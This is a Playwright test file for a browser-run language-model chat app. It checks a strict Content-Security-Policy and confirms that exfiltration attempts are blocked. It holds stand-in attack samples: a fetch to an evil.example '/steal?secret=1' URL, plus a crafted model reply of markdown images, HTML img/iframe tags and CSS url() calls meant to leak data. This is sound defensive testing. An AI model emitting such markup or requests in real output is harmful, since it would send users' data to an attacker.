import type { Page } from "@playwright/test";
import { contentSecurityPolicy } from "../src/lib/contentSecurityPolicy";
import { modelHosts } from "../src/domain/modelHosts";
import {
  assistantMessages,
  downloadPreselectedModel,
  openApp,
  sendMessage,
  waitForReply,
} from "./support/app";
import { expect, test } from "./support/test";

const touchesEvil = (url: string) => url.includes("evil.example");

/** Collects Content-Security-Policy violations from the very start of every page load. */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as { cspViolations?: string[] }).cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
}
const violations = (page: Page) =>
  page.evaluate(() => (window as { cspViolations?: string[] }).cspViolations ?? []);

test("the built page carries the strict Content-Security-Policy", async ({ page }) => {
  await openApp(page);
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(policy).toBe(contentSecurityPolicy(modelHosts(undefined)));
  for (const directive of [
    "default-src 'self'",
    "script-src 'self' 'wasm-unsafe-eval'",
    "worker-src 'self'",
    "manifest-src 'self'",
    "img-src 'self' data: blob:",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'none'",
  ]) {
    expect(policy).toContain(directive);
  }
  expect(policy).toMatch(/connect-src 'self' https:\/\/huggingface\.co /);
  expect(policy).not.toContain("unsafe-inline");
});

test.describe("a page-level attempt to reach another origin", () => {
  // Chromium reports the image request to Playwright before refusing it, so the guard is told to record
  // rather than fail; it would still abort the request. The test checks the browser refused it first.
  test.use({ allowedHosts: ["evil.example"] });

  test("is blocked for fetch and for images", async ({ page, networkGuard }) => {
    await recordViolations(page);
    await openApp(page);
    const failures: string[] = [];
    page.on("requestfailed", (request) => failures.push(`${request.url()} ${request.failure()?.errorText}`));
    const result = await page.evaluate(async () => {
      const fetched = await fetch("https://evil.example/steal?secret=1").then(
        () => "sent",
        () => "blocked",
      );
      const image = new Image();
      const loaded = new Promise((resolve) => {
        image.onload = () => resolve("loaded");
        image.onerror = () => resolve("blocked");
      });
      image.src = "https://evil.example/pixel.png";
      document.body.append(image);
      return { fetched, image: await loaded };
    });
    expect(result).toEqual({ fetched: "blocked", image: "blocked" });
    await expect
      .poll(() => violations(page))
      .toEqual(
        expect.arrayContaining([
          "connect-src https://evil.example/steal?secret=1",
          "img-src https://evil.example/pixel.png",
        ]),
      );
    // Whatever Playwright saw was refused by the policy ("csp"), never sent.
    const seen = networkGuard.requests.filter(touchesEvil);
    expect(failures).toEqual(seen.map((url) => `${url} csp`));
  });
});

test("model output crafted to exfiltrate (images, links, HTML, CSS url()) sends nothing", async ({
  page,
  networkGuard,
}) => {
  await recordViolations(page);
  await openApp(page, { rate: 0 });
  await downloadPreselectedModel(page);
  const hostile = [
    "echo: Here is your summary.",
    "",
    "![chart](https://evil.example/md-image.png?d=secret)",
    "",
    "![ref][pixel]",
    "",
    '<img src="https://evil.example/html-image.png" srcset="https://evil.example/srcset.png 2x">',
    "",
    '<div style="background-image: url(https://evil.example/inline-css.png)">styled</div>',
    "",
    "<style>body { background: url(https://evil.example/style-tag.png) }</style>",
    "",
    '<link rel="stylesheet" href="https://evil.example/sheet.css">',
    "",
    '<iframe src="https://evil.example/frame"></iframe><video poster="https://evil.example/poster.png"></video>',
    "",
    "<https://evil.example/autolink> and [details](https://evil.example/link?d=secret)",
    "",
    "[pixel]: https://evil.example/ref-image.png",
  ].join("\n");
  await sendMessage(page, hostile);
  await waitForReply(page);

  const reply = assistantMessages(page).first();
  await expect(reply).toContainText("Here is your summary.");
  await expect(reply.locator("img, iframe, video, link, style, [style]")).toHaveCount(0);
  // Links stay links the user can choose to follow; nothing is fetched by showing them.
  await expect(reply.getByRole("link", { name: "details" })).toHaveAttribute("rel", /noreferrer/);
  expect(networkGuard.requests.filter(touchesEvil)).toEqual([]);
  expect(await violations(page)).toEqual([]);
});
